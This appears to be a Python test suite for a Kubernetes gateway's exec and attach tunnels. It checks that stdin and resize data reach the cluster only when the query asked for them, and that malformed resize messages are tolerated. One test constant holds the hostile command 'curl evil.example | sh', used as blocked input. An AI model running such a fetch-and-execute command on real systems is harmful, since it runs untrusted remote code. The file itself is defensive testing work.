"""What a call did not ask for never reaches the cluster, whatever its client opens and writes, and the shell outlives an odd
message.

Policy judges the query (`interactive:`, guardrails over commands). A way to type into a call without stdin would be a way round
policy.
"""

from __future__ import annotations

import contextlib
import itertools
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from l7gw.gateway.pace import CLIENT_CONTROL_A_SECOND
from l7gw.gateway.tunnel import Sides, Tunnel
from l7gw.gateway.tunnel_opening import open_tunnel
from l7gw.identity.principal import Principal
from l7gw.kube.act import Act
from l7gw.kube.requestinfo import describe
from l7gw.policy.judge import Policy
from l7gw.timeouts import USUAL_TIMEOUTS
from l7gw.wire import websocket
from l7gw.wire.errors import OurError
from l7gw.wire.spdy_events import Data, HeadersFrame, Reset, SynReply, SynStream
from l7gw.wire.websocket_events import Message
from tests.support import spdy_frames
from tests.support.spdy_peer import TalkingConnection
from tests.support.tunnel_ends import Peer, Said, Wires

ASKED = [tuple(n for n, on in zip(("stdin", "stdout", "stderr", "tty"), bits, strict=True) if on)
         for bits in itertools.product((False, True), repeat=4)]  # fmt: skip
OPENED = [kinds for size in range(5) for kinds in itertools.combinations(("stdin", "stdout", "stderr", "resize"), size)]
TYPED, SIZE = b"curl evil.example | sh\n", b'{"Width":80,"Height":24}\n'
PROTOCOLS = {
    "spdy": ("SPDY/3.1", "v4.channel.k8s.io"),
    "wrapped": ("websocket", "SPDY/3.1+portforward.k8s.io"),
    "v4": ("websocket", "v4.channel.k8s.io"),
    "v5": ("websocket", "v5.channel.k8s.io"),
}


def act_of(asked: tuple[str, ...], kind: str = "exec") -> Act:
    query = "".join(f"&{name}=true" for name in asked)
    return describe("POST", f"/api/v1/namespaces/default/pods/web-0/{kind}?command=sh{query}", "SPDY/3.1")


def opened(protocol: str, act: Act) -> Wires:
    """The tunnel that a 101 opens for this call."""
    upgrade, chosen = PROTOCOLS[protocol]

    def make(sides: Sides) -> Tunnel:
        return open_tunnel(sides, act, websocket=upgrade == "websocket", subprotocol=chosen)

    def peer(role: Any) -> Peer:
        inner = TalkingConnection(role) if protocol in ("spdy", "wrapped") else None
        return Peer(role, inner, websocket.Connection(role) if upgrade == "websocket" else None)

    return Wires(make, peer)


def over_spdy(kinds: tuple[str, ...], typed: bytes) -> list[Said]:
    """Open the error stream and these streams, in that order; then write what an honest client writes, and what is typed."""
    numbers = {kind: 2 * at + 1 for at, kind in enumerate(("error", *kinds))}
    said: list[Said] = [SynStream(number, (("streamtype", kind),)) for kind, number in numbers.items()]
    if "resize" in numbers:
        said.append(Data(numbers["resize"], SIZE))
    if "stdin" in numbers:
        said.append(Data(numbers["stdin"], typed, not typed))
    return said


def over_websocket(kinds: tuple[str, ...], typed: bytes, protocol: str) -> list[Said]:
    said: list[Said] = [Message(b"")]
    if "resize" in kinds:
        said.append(Message(b"\x04" + SIZE))
    if "stdin" in kinds:
        said.append(Message(b"\x00" + typed))
        if not typed and protocol == "v5":
            said.append(Message(b"\xff\x00"))
    return said


def reached(wires: Wires) -> Iterator[tuple[str, bytes]]:
    """(channel, bytes) of all that reached the cluster. Openings and ends have no bytes."""
    kinds: dict[int, str] = {}
    for event in wires.cluster.heard:
        if isinstance(event, SynStream):
            ((name, kind),) = event.headers
            assert name == "streamtype"
            kinds[event.stream] = kind
            yield kind, b""
        elif isinstance(event, Data):
            yield kinds[event.stream], event.data
        elif isinstance(event, Message):
            close = event.data[:1] == b"\xff"
            yield {0: "stdin", 4: "resize"}[event.data[close]], b"" if close else event.data[1:]


@pytest.fixture(scope="module")
def careful(tmp_path_factory: pytest.TempPathFactory) -> Policy:
    path: Path = tmp_path_factory.mktemp("policy") / "policy.yaml"
    path.write_text('rules:\n- {name: looks, effects: [execute], commands: ["sh"], verdict: allow}\n')
    return Policy.load(path)


@pytest.mark.parametrize("kind", ["exec", "attach"])
@pytest.mark.parametrize("protocol", PROTOCOLS)
@pytest.mark.parametrize("asked", ASKED, ids="-".join)
def test_only_streams_that_the_query_asked_for_reach_the_cluster(
    kind: str, protocol: str, asked: tuple[str, ...], careful: Policy
) -> None:
    act = act_of(asked, kind)
    wanted = {"error", *asked} - {"tty"} | ({"resize"} if "tty" in asked else set())
    without_input = careful.judge(Principal("ann", ()), "c", act).allowed
    assert without_input is (kind == "exec" and "stdin" not in asked and "tty" not in asked)
    for kinds, typed in itertools.product(OPENED, (TYPED, b"")):
        wires = opened(protocol, act)
        spdy = protocol in ("spdy", "wrapped")
        wires.say(*(over_spdy(kinds, typed) if spdy else over_websocket(kinds, typed, protocol)))
        found = list(reached(wires))
        assert {channel for channel, _ in found} <= wanted
        assert b"".join(data for channel, data in found if channel == "stdin") == (
            typed if {"stdin"} <= wanted & set(kinds) else b""
        )
        if without_input:
            assert not any(channel in ("stdin", "resize") for channel, _ in found)
        went_round = bool(typed) and "stdin" in kinds and "stdin" not in asked
        assert wires.outcome == ("cut" if went_round else "")
        assert (("stdin-not-passed", TYPED, False) in wires.recorded) is went_round
        if went_round:
            told = wires.client.data(1) if spdy else next(m.data for m in wires.client.heard if isinstance(m, Message))
            assert b"did not ask for" in told and b'"status":"Failure"' in told.replace(b'": "', b'":"')


@pytest.mark.parametrize("protocol", ["spdy", "wrapped"])
def test_a_stream_that_was_not_asked_for_is_answered_and_ended_and_the_others_go_on(protocol: str) -> None:
    """client-go waits 30 s for the answer to a stream, and reads each stream to its end."""
    wires = opened(protocol, act_of(("stdout",)))
    wires.say(*over_spdy(("stdin", "stdout", "stderr", "resize"), b""))
    refused = [event for event in wires.client.heard if isinstance(event, SynReply)]
    assert refused == [SynReply(stream, (), True) for stream in (3, 7, 9)]
    wires.say(HeadersFrame(7, (("a", "b"),)), HeadersFrame(7, (), True), Reset(9, 5))
    wires.answer(SynReply(1), SynReply(5), Data(5, b"out", True), Data(1, b'{"status":"Success"}'))
    assert wires.client.data(5) == b"out" and wires.tunnel._channels.complete
    assert [event for event in wires.cluster.heard if event not in (SynStream(1, (("streamtype", "error"),)),)] == [
        SynStream(5, (("streamtype", "stdout"),))
    ]
    wires.tunnel.cluster_ended()
    assert wires.outcome == "complete"
    assert {name for name, _, _ in wires.recorded} == {
        "error", "stdout", "stdin-not-passed", "stderr-not-passed", "resize-not-passed",
    }  # fmt: skip


def test_a_tunnel_without_all_its_streams_ends_with_a_failure_after_the_kubelets_time() -> None:
    """A kubelet would wait as long and then do nothing: the client would hang."""
    wires = opened("spdy", act_of(("stdout", "stderr")))
    wires.say(*over_spdy(("stdin", "stdout"), b""))
    wires.wait(USUAL_TIMEOUTS.first_streams)
    assert not wires.outcome
    wires.wait(1)
    assert wires.outcome == "cut" and b"were not opened" in wires.client.data(1)


def test_bytes_of_the_cluster_on_a_channel_that_was_not_asked_for_are_recorded_and_not_passed() -> None:
    wires = opened("v5", act_of(("stderr",)))
    wires.answer(Message(b"\x01unasked"), Message(b""), Message(b"\x02asked"), Message(b"\x03{}"))
    assert wires.client.heard == [Message(b"\x02asked"), Message(b"\x03{}")]
    assert wires.recorded[:2] == [("stdout-not-passed", b"unasked", False), ("message-not-passed", b"", False)]


# ---------------------------------------------------------------------- headers of streams


def test_headers_of_streams_go_up_and_down_as_they_were_understood() -> None:
    wires = opened("spdy", act_of(("stdout",)))
    wires.say(SynStream(1, (("streamtype", "error"), ("x-remote-user", "root"))))
    wires.say(HeadersFrame(1, (("streamtype", "stdin"),)))
    assert wires.cluster.heard == [SynStream(1, (("streamtype", "error"),))]
    wires.answer(SynReply(1, (("set-cookie", "a"),)), HeadersFrame(1, (("b", "c"),)), HeadersFrame(1, (), True))
    assert wires.client.heard == [SynReply(1), Data(1, b"", True)]


@pytest.mark.parametrize("name", ["streamtype", "port", "requestid", "anything"])
def test_a_stream_header_of_two_values_ends_the_tunnel_in_words(name: str) -> None:
    wires = opened("spdy", act_of(("stdout",)))
    wires.say(SynStream(1, (("streamtype", "error"),)))
    headers = [("streamtype", "stdout")] if name != "streamtype" else []
    wires.say(SynStream(3, (*headers, (name, "36403"), (name, "45595"))))
    assert wires.outcome == "cut" and b"several values" in wires.client.data(1)
    assert SynStream not in map(type, wires.cluster.heard[1:])


# ---------------------------------------------------------------------- odd messages

ODD_SIZES = [
    b'{"Width":null,"Height":null}',
    b'{"Width":80.5,"Height":24}',
    b'{"Width":-1,"Height":-1}',
    b'{"Width":65536,"Height":24}',
    b'{"Width":80,"Hei',
    b"",
    b"null",
    b"\xff\xfe",
    b"{" * 5000,
]
SHELL = ("stdin", "stdout", "tty")


@pytest.mark.parametrize("protocol", PROTOCOLS)
@pytest.mark.parametrize("odd", ODD_SIZES)
def test_an_odd_size_is_recorded_and_the_shell_lives_on_with_the_next(protocol: str, odd: bytes) -> None:
    wires = opened(protocol, act_of(SHELL))
    spdy = protocol in ("spdy", "wrapped")

    def sized(data: bytes) -> Said:
        return Data(7, data) if spdy else Message(b"\x04" + data)

    if spdy:
        wires.say(*(SynStream(2 * at + 1, (("streamtype", k),)) for at, k in enumerate(("error", "stdin", "stdout", "resize"))))
        wires.recorded.clear()
    wires.say(sized(odd))
    wires.say(sized(SIZE), Data(3, b"ls") if spdy else Message(b"\x00ls"))
    assert not wires.outcome
    assert [one for one in reached(wires) if one[1]] == [("resize", SIZE), ("stdin", b"ls")]
    kept = [data for name, data, _ in wires.recorded if name == "resize-not-passed"]
    assert b"".join(kept) == odd and (kept or spdy)  # an empty frame of a SPDY stream has no bytes to keep
    assert wires.recorded[len(kept) :] == [("resize", SIZE, False), ("stdin", b"ls", False)]


def test_odd_messages_are_counted_as_pings_are() -> None:
    for odd in (Message(b""), Message(b"\x04x"), Message(b"\xff\x02")):
        wires = opened("v5", act_of(SHELL))
        wires.say(*[odd] * CLIENT_CONTROL_A_SECOND)
        assert not wires.outcome
        wires.say(odd)
        assert wires.outcome == "cut"


# ---------------------------------------------------------------------- any frames of a client, in any order

KINDS = ("error", "stdin", "stdout", "stderr", "resize", "data", "")
WRITTEN = (b"", b"ls\n", b"ls\n", SIZE, SIZE, SIZE, SIZE[:9], b'{"Width":-1,"Height":2}', b"{", b"\xff")
streams = st.sampled_from(
    ["stdin", "stdin", "resize", "resize", "error", "stdout", "stderr", "none"]
)  # what a client usually writes, drawn more often
openings = st.tuples(st.just("syn"), st.sampled_from(KINDS), st.sampled_from([(), (), (("x", "y"),), (("port", "1\0" + "2"),)]))
speech = st.one_of(
    openings,
    st.tuples(st.just("data"), streams, st.sampled_from(WRITTEN)),
    st.tuples(st.just("headers"), streams, st.just(())),
    st.tuples(st.just("reset"), streams, st.just(())),
    st.tuples(st.just("reply"), streams, st.just(())),
    st.tuples(st.just("down"), streams, st.sampled_from([b"", b"out", b'{"status":"Success"}'])),
)
first = st.permutations(KINDS[:5]).map(lambda kinds: [("syn", kind, ()) for kind in kinds])


@given(st.sampled_from(ASKED), first, st.integers(0, 5), st.lists(st.tuples(speech, st.integers(0, 5)), max_size=24))
@settings(deadline=None)
def test_over_spdy_no_order_of_frames_types_into_a_call_without_stdin(
    asked: tuple[str, ...], begun: list[Any], count: int, said: list[Any]
) -> None:
    wires = opened("spdy", act_of(asked))
    wanted = {"error", *asked} - {"tty"} | ({"resize"} if "tty" in asked else set())
    hand, numbers, count_up = spdy_frames.Peer(), dict[str, int](), itertools.count()
    for (what, which, more), flag in [*((one, 1) for one in begun[:count]), *said]:
        final = not flag  # true in one of six
        if what == "syn":
            pairs = tuple((name.encode(), value.encode()) for name, value in (("streamtype", which), *more))
            numbers[which] = 2 * next(count_up) + 1
            wires.tunnel.from_client(hand.syn(numbers[which], pairs, final))
            continue
        which = numbers.get(which, 99)
        if what == "reset":
            wires.tunnel.from_client(spdy_frames.reset(which))
        elif what in ("data", "headers"):
            wires.tunnel.from_client((spdy_frames.data if what == "data" else hand.headers)(which, more, final))
        elif spdy_frames.may_send(wires.cluster.inner, which) and not wires.outcome:
            with contextlib.suppress(OurError):  # the cluster has already replied to this stream
                wires.answer(SynReply(which, (), final) if what == "reply" else Data(which, more, final))
        wires.clock.advance(1)
    found = list(reached(wires))  # the cluster's own codec accepted every frame
    assert {channel for channel, _ in found} <= wanted
    typed = b"".join(data for channel, data in found if channel == "stdin")
    assert not typed or "stdin" in asked
    assert typed == b"".join(data for name, data, _ in wires.recorded if name == "stdin")
    sizes = b"".join(data for channel, data in found if channel == "resize")
    assert sizes == SIZE * (len(sizes) // len(SIZE)) and (not sizes or "tty" in asked)


@given(
    st.sampled_from(("v4", "v5")),
    st.sampled_from(ASKED),
    st.lists(st.binary(max_size=4) | st.sampled_from(WRITTEN), max_size=16),
    st.data(),
)
@settings(deadline=None)
def test_over_websocket_no_order_of_messages_types_into_a_call_without_stdin(
    protocol: str, asked: tuple[str, ...], said: list[bytes], draw: st.DataObject
) -> None:
    wires = opened(protocol, act_of(asked))
    for data in said:
        channel = draw.draw(st.sampled_from([b"\x00", b"\x04", b"\xff", b""]))
        wires.clock.advance(1)
        wires.say(Message(channel + data, draw.draw(st.booleans()) and data.isascii() and channel != b"\xff"))
    found = list(reached(wires))
    typed = b"".join(data for channel, data in found if channel == "stdin")
    assert not typed or "stdin" in asked
    assert typed == b"".join(data for name, data, _ in wires.recorded if name == "stdin")
    assert all(data in (b"", SIZE) and "tty" in asked for channel, data in found if channel == "resize")
